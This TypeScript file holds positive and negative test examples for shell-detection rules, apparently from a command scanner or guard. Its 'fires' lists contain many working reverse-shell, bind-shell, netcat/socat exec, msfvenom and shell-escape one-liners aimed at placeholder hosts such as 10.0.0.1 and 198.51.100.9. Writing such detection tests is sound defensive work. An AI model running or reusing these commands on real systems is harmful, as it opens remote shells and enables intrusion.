import type { RuleExamples } from './rule-examples.ts';

export const SHELLS_EXAMPLES: RuleExamples = {
  'shells.code-socket': {
    fires: [
      "tclsh <<< 'set s [socket 10.0.0.1 4242]; while 1 { gets $s c; catch {eval exec $c} r; puts $s $r }'",

      `python -c 'a=__import__;s=a("socket").socket();s.connect(("10.0.0.1",4444));a("subprocess").call(["/bin/sh","-i"],stdin=s)'`,
      'julia -e \'using Sockets; s=connect("10.0.0.1",4444); while true; write(s, read(`sh -c $(readline(s))`)); end\'',
      `elixir -e '{:ok,s}=:gen_tcp.connect({10,0,0,1},4444,[]); :os.cmd(~c"sh")'`,
      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"198.51.100.9:80");STDIN->fdopen($c,r);system$_ while<>;'`,
      'ruby -rsocket -e \'spawn("zsh", in: TCPSocket.new("198.51.100.9", 80))\'',
      'python3 -c \'from socket import *; import os; s=socket(); s.connect(("198.51.100.9",80)); os.dup2(s.fileno(),0); os.system("dash")\'',
      'node -e \'const n=require("net"),c=require("child_process").spawn("ksh");const s=n.connect(80,"198.51.100.9");s.pipe(c.stdin)\'',
      'python -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
      'perl -e \'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'',
      'ruby -rsocket -e\'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
      'php -r \'$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
      'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null',
      "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
      'node -e \'(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.1",function(){client.pipe(sh.stdin);});})()\'',
      'export RHOST=10.0.0.1; python -c \'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")\'',
    ],
    silent: [
      "julia -e 'using Sockets; println(getipaddr())'",
      "python3 -c 'import socket; print(socket.gethostname())'",
      "ruby -rsocket -e 'puts Socket.gethostname'",
      'ssh -L 8080:localhost:80 host',
      'sshpass -V',
      'nc -zv host 80',
      'socket host 80',
    ],
  },
  'shells.dev-tcp': {
    fires: [
      "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.9 80 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
    ],
    silent: [
      "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'",
      'exec 3<>/dev/tcp/example.com/80',
      'zmodload zsh/datetime',
      'ssh -L 8080:localhost:80 host',
      'sshpass -V',
      'nc -zv host 80',
      'socket host 80',
    ],
  },
  'shells.interactive-over-network': {
    fires: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    silent: ['ssh -L 8080:localhost:80 host', 'sshpass -V', 'nc -zv host 80', 'socket host 80'],
  },
  'shells.listener': {
    fires: [
      'mkfifo /tmp/p; nc -l 4444 < /tmp/p | sh > /tmp/p',
      'socat TCP4-LISTEN:4444,reuseaddr,fork EXEC:bash',
      'nc -l 8080',
    ],
    silent: ["echo 'show stat' | socat stdio /run/haproxy.sock", 'nc -zv host 80', 'socket host 80'],
  },
  'shells.netcat-exec': {
    fires: [
      "websocat -E ws-l:0.0.0.0:8000 sh-c:'bash -i'",

      'socat stdin exec:/bin/sh',
      'nc -eu /bin/sh 198.51.100.9 80',
      'nc -lvpe 80 /bin/bash',
      'ncat -c zsh 198.51.100.9 80',
      'busybox nc 198.51.100.9 80 -e ash',
      'nc -e /bin/sh 10.0.0.1 4444',
      'nc 10.0.0.1 4444 -e /bin/bash',
      'ncat --sh-exec "/bin/sh" 10.0.0.1 4444',
      'socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane',
      'socat TCP4-LISTEN:4444,reuseaddr,fork EXEC:bash',
    ],
    silent: [
      'websocat ws://x.example',

      'nc -zv host 22',
      'nc -z -w1 host 80',
      "echo 'show stat' | socat stdio /run/haproxy.sock",
      'nc -zv host 80',
      'nc -l 8080',
    ],
  },
  'shells.kept-root': {
    fires: ['./bash -p', '/tmp/rootbash -p', '/home/ada/.cache/sh -p'],
    silent: ['bash -p', '/bin/sh -p', './install.sh -p 80', './deploy.sh'],
  },
  'shells.remote-display': {
    fires: ['xterm -display 10.0.0.1:1', 'rxvt -display evil.example.org:0'],
    silent: ['xterm -display :1', 'xterm -e top', 'DISPLAY=10.0.0.1:1 xclock'],
  },
  'shells.payload-tool': {
    fires: [
      'rcat connect -s /bin/bash 10.0.0.1 55600',
      'ew -s rssocks -d 198.51.100.9 -e 80',
      'gs-netcat -s x -l -i',
      'netexec smb 198.51.100.0/24',
      'msfvenom -p linux/x64/shell_reverse_tcp LHOST=1 LPORT=2 -f elf',
    ],
    silent: ['ew --help', 'msfconsole --version'],
  },
  'shells.piped-to-network': {
    fires: [
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
      'mkfifo /tmp/p; nc -l 4444 < /tmp/p | sh > /tmp/p',
      'openssl s_client -quiet -connect 10.0.0.1:4444 | /bin/sh',
      'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s',
      'telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445',
    ],
    silent: ['ssh -L 8080:localhost:80 host', 'sshpass -V', 'nc -zv host 80', 'socket host 80'],
  },
  'shells.shared-terminal': {
    fires: ['ttyd bash', 'tmate'],
    silent: ['gotty --version'],
  },
  'shells.socket-program': {
    fires: ["socket -qvp '/bin/sh -i' 10.0.0.1 4444"],
    silent: ['socket host 80'],
  },
  'shells.escape': {
    fires: [
      "tar xf a.tar --checkpoint=1 --checkpoint-action=exec='sh x.sh'",

      `tar xf /dev/null -I '/bin/sh -c "sh <&2 1>&2"'`,
      'perl -e \'exec "/bin/sh"\'',
      'python3 -c \'import pty; pty.spawn("/bin/bash")\'',
      'awk \'BEGIN {system("/bin/sh")}\'',
      String.raw`find . -exec /bin/sh -p \; -quit`,
      'flock -u / /bin/sh',
      'nice /bin/bash',
      "vim -c ':!/bin/sh'",
      'timeout 7d /bin/sh',
      'git -c core.pager=/bin/sh log',
      'ruby -e \'exec "/bin/bash"\'',
      'lua -e \'os.execute("/bin/sh")\'',
      'php -r \'system("/bin/sh");\'',
      'env /bin/sh',
      'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh',
    ],
    silent: [
      'tar cf a.tar --checkpoint=100 --checkpoint-action=dot src',

      String.raw`find . -name '*.sh' -exec sh {} \;`,
      'python3 -c \'import subprocess; subprocess.run(["sh", "build.sh"])\'',
      'docker exec -it web bash',
      'ssh host bash',
      'env FOO=1 bash script.sh',
      'timeout 10 bash test.sh',
      'bash',
      'tmux new bash',
      'nice -n 10 make',
      String.raw`find . -exec sh -c 'echo x' \;`,
    ],
  },
};
